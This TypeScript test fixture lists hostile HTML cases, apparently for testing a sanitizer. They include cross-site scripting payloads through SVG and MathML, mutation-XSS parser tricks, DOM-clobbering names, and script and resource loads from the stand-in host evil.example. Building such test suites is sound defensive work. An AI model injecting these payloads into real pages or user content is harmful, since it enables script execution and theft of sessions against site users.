/** Hostile pages that hide behind SVG and MathML, where a parser changes its rules. */
import { type HostileCase, page } from "./case.js";

/** SVG, MathML and what changes its meaning when it is parsed a second time. */
export const FOREIGN: readonly HostileCase[] = [
  [
    "svg handlers and script",
    page(
      "<svg onload=alert(1)><script>alert(1)</script><script href=//evil.example/x.js /><g onclick=alert(1)><text>x</text></g></svg>",
    ),
  ],
  [
    "svg link",
    page(
      "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a><a href=javascript:alert(1)><circle r=9 /></a></svg>",
    ),
  ],
  [
    "svg use and image",
    page(
      "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/><image href=//evil.example/i /><feImage href=//evil.example/f /></svg>",
    ),
  ],
  [
    "svg animate",
    page(
      "<svg><a><animate attributeName=href values=javascript:alert(1) /><set attributeName=onclick to=alert(1) /><text y=20>x</text></a></svg>",
    ),
  ],
  ["svg style", page("<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>")],
  [
    "svg foreign object",
    page("<svg><foreignObject><p onclick=alert(1)>x<iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
  ],
  [
    "svg title and desc",
    page("<svg><title><img src=x onerror=alert(1)></title><desc><script>alert(1)</script></desc></svg>"),
  ],
  [
    "svg CDATA",
    page(
      "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg><svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
    ),
  ],
  [
    "svg filter and handler of time",
    page(
      "<svg><discard onbegin=alert(1) /><animate onbegin=alert(1) attributeName=x dur=1s /><handler ev:event=load>alert(1)</handler></svg>",
    ),
  ],
  [
    "math link",
    page(
      "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi><maction actiontype=statusline xlink:href=javascript:alert(1)>y</maction></math>",
    ),
  ],
  [
    "math annotation",
    page(
      "<math><semantics><mi>x</mi><annotation-xml encoding=text/html><iframe srcdoc='<script>alert(1)</script>'></iframe></annotation-xml><annotation encoding='application/x-tex'>\\href{javascript:alert(1)}{x}</annotation></semantics></math>",
    ),
  ],
  [
    "math, TeX that runs",
    page(
      "<math><semantics><mi>x</mi><annotation encoding='application/x-tex'>x$ <img src=x onerror=alert(1)> $ \\require{html} \\style{background:url(//evil.example/)}{x}</annotation></semantics></math><script type='math/tex'>x</script><span class=katex><annotation encoding=application/x-tex>&lt;img src=x onerror=alert(1)&gt;</annotation></span>".replace(
        "<img src=x onerror=alert(1)>",
        "&lt;img src=x onerror=alert(1)&gt;",
      ),
    ),
  ],
  [
    "math style",
    page(
      "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></math>",
    ),
  ],
  ["math nested form", page("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")],
  [
    "math, malign mark",
    page(
      "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'></style></h1>",
    ),
  ],
  [
    "math, integration point",
    page(
      "<math><annotation-xml encoding='application/xhtml+xml'><svg><foreignObject><math><style><img src=x onerror=alert(1)></style></math></foreignObject></svg></annotation-xml></math>",
    ),
  ],
  [
    "svg in math in svg",
    page("<svg><math><svg><p><style><!--</style><img src=x onerror='alert(1)'>--></style></math></svg>"),
  ],
  [
    "break out of svg by paragraph",
    page(
      "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'></svg><math><br><style><!--</style>--><img src=x onerror=alert(1)>",
    ),
  ],
  ["table and svg", page("<table><svg><style><tr><td></style><img src=x onerror=alert(1)></table>")],
  [
    "table foster parents",
    page(
      "<table><a href=javascript:alert(1)>x<tr><td>y</td><script>alert(1)</script></tr><img src=x onerror=alert(1)></table>",
    ),
  ],
  [
    "raw text elements",
    page(
      "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed><noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    ),
  ],
  [
    "textarea and title",
    page(
      "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea><svg><title><style></title><img src=x onerror=alert(1)></style></svg>",
    ),
  ],
  ["plaintext", page("<plaintext></plaintext><script>alert(1)</script>")],
  [
    "comments",
    page(
      "<!--><img src=x onerror=alert(1)>--><p>x<!-- --!><img src=x onerror=alert(1)>--><!---><img src=x onerror=alert(1)>--><!--<!--><img src=x onerror=alert(1)>-->",
    ),
  ],
  [
    "comment in attribute",
    page(
      "<p title='--><img src=x onerror=alert(1)>'>x</p><p title='<!--'>y</p><p title='-->'><img src=x onerror=alert(1)>z</p>",
    ),
  ],
  [
    "misnested formatting",
    page(`${"<b><i><u>".repeat(30)}<p>x</b>y</i></p><a href=#1>a<div><a href=javascript:alert(1)>b</a></div></a>`),
  ],
  [
    "deep nesting flattened by a parser",
    page(`${"<div>".repeat(600)}<svg><style><img src=x onerror=alert(1)></style></svg>`),
  ],
  [
    "preformatted line feed",
    page("<pre>\n\n<b>x</b></pre><textarea>\n<img src=x onerror=alert(1)></textarea><listing>\n\nx</listing>"),
  ],
  [
    "attributes with odd names",
    page(
      "<p \"onclick=alert(1)//' <=x =y a/onclick=alert(1) x='\"onmouseover=alert(1)'>x</p><p/onclick=alert(1)/>y</p>",
    ),
  ],
  [
    "encoding tricks",
    page(
      "<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p><p>\u001b(J\\u003cscript\\u003ealert(1)\u001b(B</p><p>\ufeff\u2028\u2029\u0085x</p>",
    ),
  ],
  [
    "names that clobber",
    page(
      "<form id=x name=body><input name=attributes><input name=parentNode></form><img name=getElementById id=cookie><a id=document name=location href=x>a</a><a id=document>b</a><iframe name=alert></iframe><object id=window name=top></object>",
    ),
  ],
  [
    "ids and names that clobber in headings",
    page(
      "<h2 id=createElement>a</h2><h2 id=__proto__>b</h2><h2 id=constructor name=toString>c</h2><li id=body>d</li><sup id=fn:1><a href=#hasOwnProperty>1</a></sup>",
    ),
  ],
];
